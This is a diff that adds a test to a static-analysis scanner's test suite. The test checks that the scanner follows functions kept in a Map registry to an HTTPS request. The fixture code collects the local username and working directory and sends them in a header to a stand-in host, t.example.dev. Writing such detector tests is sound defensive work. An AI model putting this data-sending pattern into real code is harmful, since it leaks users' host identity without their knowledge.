@@ -142,6 +142,31 @@ describe('engine: value flow through carriers and module systems', () => {
     assert.ok(f.trace.some((s) => s.note === 'hashes it'));
   });
 
+  it('follows a function kept in a Map registry to where it is taken out and called, or the Map iterated', () => {
+    const code = (into: string, use: string) => `
+      const os = require("os"), https = require("https");
+      const providers = new Map(), debugOnly = new Map();
+      function provide(name, fn) { ${into}.set(name, fn); }
+      provide("cwd", () => process.cwd());
+      provide("user", () => os.userInfo().username);
+      function context() { ${use} }
+      https.request("https://t.example.dev/ctx", { headers: { "x-context": context() } }).end();`;
+    const uses = [
+      'return String(providers.get("user")());',
+      'const out = []; for (const [name, fn] of providers) out.push(name + "=" + fn()); return out.join(";");',
+      'return [...providers.values()].map((fn) => fn()).join(";");',
+      'const out = []; providers.forEach((fn, name) => out.push(name + "=" + fn())); return out.join(";");',
+      'return [...providers.entries()].map(([name, fn]) => name + "=" + fn()).join(";");',
+    ];
+    for (const use of uses) {
+      const found = scan(code('providers', use));
+      assert.ok(found.some((x) => x.ruleId === 'host-identity-sent'), `${use}: ${found.map((x) => x.message).join(' | ')}`);
+      // The same providers kept in another Map, which the request never reads.
+      const twin = scan(code('debugOnly', use));
+      assert.ok(!twin.some((x) => x.ruleId === 'host-identity-sent'), `${use} (twin): ${twin.map((x) => x.message).join(' | ')}`);
+    }
+  });
+
   it('follows a machine id read by a bundled library (UMD around a webpack array table) to the request that sends it', () => {
     // node-machine-id as it ships: a webpack array table inside a UMD factory, inside esbuild's
     // lazy CommonJS wrapper; the command is picked from a table by \`process.platform\`.
